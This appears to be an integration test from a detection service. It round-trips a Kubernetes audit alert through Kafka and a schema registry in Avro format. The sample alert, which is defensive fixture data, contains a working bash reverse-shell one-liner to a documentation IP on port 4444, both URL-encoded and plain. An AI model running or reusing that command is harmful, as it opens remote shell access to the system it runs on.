"""An Alert travels through a real topic in Confluent's Avro wire format via a real registry.

`schemas/alert.avsc` is registered under `<topic>-value` (TopicNameStrategy, what the service
uses), serialised by confluent-kafka's `AvroSerializer`, produced, consumed and decoded with
`AvroDeserializer`. The record is written by hand so that a change to the schema that breaks
existing alerts shows up here, independent of the code that builds alerts.
"""

from __future__ import annotations

import struct
import time
from pathlib import Path
from typing import Any

import pytest
from confluent_kafka import Consumer, KafkaError, KafkaException, Message, Producer
from confluent_kafka.schema_registry import (
    Schema,
    SchemaRegistryClient,
    topic_subject_name_strategy,
)
from confluent_kafka.schema_registry.avro import AvroDeserializer, AvroSerializer
from confluent_kafka.serialization import MessageField, SerializationContext

from devtools.jvm.registry import SchemaRegistry

pytestmark = pytest.mark.integration

TOPIC_SUBJECTS: dict[str, object] = {"subject.name.strategy": topic_subject_name_strategy}
"""Subjects named ``<topic>-value``, as the service registers them. confluent-kafka 2.16's
default asks the registry for the topic's associations first, an endpoint Apicurio answers 404;
one such call hung a fresh-clone CI run for the test's whole timeout, so it is not made."""
SCHEMA_PATH = Path(__file__).resolve().parents[2] / "schemas" / "alert.avsc"

RULE_ID = "b0a4b6c1-4d1e-4f4b-9d1c-2f6c8e0a7b31"
AUDIT_ID = "5f0b9a8e-3c1d-4e7a-9b2f-8d6c4a1e0f93"


def alert_record() -> dict[str, Any]:
    """A realistic alert: an allowed `kubectl exec` running a reverse shell in a pod."""
    return {
        "alert_id": "3b8f1d2e-6a4c-5e9b-8f1a-7c2d0e4b6a95",
        "rule": {
            "id": RULE_ID,
            "name": "Kubernetes Exec Into Pod With Reverse Shell",
            "severity": "high",
            "risk_score": 73,
            "tags": ["Domain: Kubernetes", "Tactic: Execution", "Data Source: Kubernetes"],
            "threat": [
                {
                    "framework": "MITRE ATT&CK",
                    "tactic": {
                        "id": "TA0002",
                        "name": "Execution",
                        "reference": "https://attack.mitre.org/tactics/TA0002/",
                    },
                    "techniques": [
                        {
                            "id": "T1609",
                            "name": "Container Administration Command",
                            "reference": "https://attack.mitre.org/techniques/T1609/",
                            "subtechniques": [],
                        },
                        {
                            "id": "T1059",
                            "name": "Command and Scripting Interpreter",
                            "reference": "https://attack.mitre.org/techniques/T1059/",
                            "subtechniques": [
                                {
                                    "id": "T1059.004",
                                    "name": "Unix Shell",
                                    "reference": "https://attack.mitre.org/techniques/T1059/004/",
                                }
                            ],
                        },
                    ],
                }
            ],
            "references": ["https://kubernetes.io/docs/reference/kubectl/generated/kubectl_exec/"],
            "language": "python",
            "version": 3,
            "type": "native",
            "index": [],
            "from": "now-6m",
            "interval": "5m",
            "status": None,
            "false_positives": ["A developer debugging with a shell they opened on purpose"],
        },
        "event": {
            "audit_id": AUDIT_ID,
            "stage": "ResponseStarted",
            "verb": "create",
            "timestamp": "2026-11-23T14:02:11.482913Z",
            "user": {"username": "dev-alice", "groups": ["developers", "system:authenticated"]},
            "impersonated_user": None,
            "source_ips": ["10.20.4.17"],
            "user_agent": "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
            "object_ref": {
                "resource": "pods",
                "namespace": "payments",
                "name": "checkout-7d9f8b6c5-x2x4q",
                "container": "app",
                "subresource": "exec",
            },
            "request_uri": (
                "/api/v1/namespaces/payments/pods/checkout-7d9f8b6c5-x2x4q/exec"
                "?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444"
                "+0%3E%261&container=app&stdin=true&stdout=true&tty=true"
            ),
            "decision": "allow",
            "response_code": 101,
        },
        "fields": {
            "decoded_uri": "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "raw_commands": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
            "command_count": 3,
            "entropy": 4.21,
            "tty": True,
            "container_image": None,
        },
        "explanation": {
            "indicator": "dev_tcp_redirect",
            "simple_command": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "detail": None,
        },
        "elastic_parity": True,
        "detected_at": "2026-11-23T14:02:11.519204Z",
        "source": {
            "kind": "kafka",
            "topic": "k8s-audit",
            "partition": 2,
            "offset": 918_273,
            "file": None,
            "line": None,
            "envelope": {
                "provider": "eks",
                "cluster": "prod-eks",
                "resource_id": "111122223333",
                "log_group": "/aws/eks/prod-eks/cluster",
                "log_stream": "kube-apiserver-audit-8c5f1b2e",
            },
        },
    }


def consume_one(bootstrap: str, topic: str, group_id: str, timeout: float = 30.0) -> Message:
    config = {
        "bootstrap.servers": bootstrap,
        "group.id": group_id,
        "auto.offset.reset": "earliest",
        "enable.auto.commit": False,
    }
    with Consumer(config) as consumer:
        consumer.subscribe([topic])
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            msg = consumer.poll(0.5)
            if msg is None:
                continue
            if msg.error() is not None:
                raise KafkaException(msg.error())
            return msg
    raise AssertionError(f"no record on {topic} within {timeout:.0f} s")


def test_alert_round_trips_through_topic_and_registry(
    schema_registry: SchemaRegistry, bootstrap: str, topic: str, group_id: str
) -> None:
    schema_str = SCHEMA_PATH.read_text(encoding="utf-8")
    client = SchemaRegistryClient({"url": schema_registry.url, "timeout": 30})
    subject = f"{topic}-value"
    schema_id = client.register_schema(subject, Schema(schema_str, "AVRO"))
    # The registry is shared by the session: other tests' subjects may be there too.
    assert subject in client.get_subjects()
    assert client.get_latest_version(subject).schema_id == schema_id

    # The serializer finds the registered schema (no second registration: same id).
    serializer = AvroSerializer(
        client, schema_str, conf={"auto.register.schemas": False, **TOPIC_SUBJECTS}
    )
    value_ctx = SerializationContext(topic, MessageField.VALUE)
    record = alert_record()
    payload = serializer(record, value_ctx)
    assert payload is not None

    errors: list[KafkaError] = []

    def on_delivery(err: KafkaError | None, msg: Message) -> None:
        if err is not None:
            errors.append(err)

    with Producer({"bootstrap.servers": bootstrap, "acks": "all"}) as producer:
        producer.produce(topic, key=record["alert_id"], value=payload, on_delivery=on_delivery)
        assert producer.flush(30) == 0
    assert errors == []

    msg = consume_one(bootstrap, topic, group_id)
    raw = msg.value()
    assert isinstance(raw, bytes)
    # Confluent wire format: magic byte 0, the schema id as 4 big-endian bytes, Avro binary.
    assert raw[0] == 0
    assert struct.unpack(">I", raw[1:5])[0] == schema_id
    assert raw == payload

    decoded = AvroDeserializer(client, conf=TOPIC_SUBJECTS)(raw, value_ctx)
    assert decoded == record
    # Union branches kept their types (a bool is not read back as a long, nor an int as a double).
    assert decoded["fields"]["tty"] is True
    assert type(decoded["fields"]["command_count"]) is int
    assert type(decoded["fields"]["entropy"]) is float
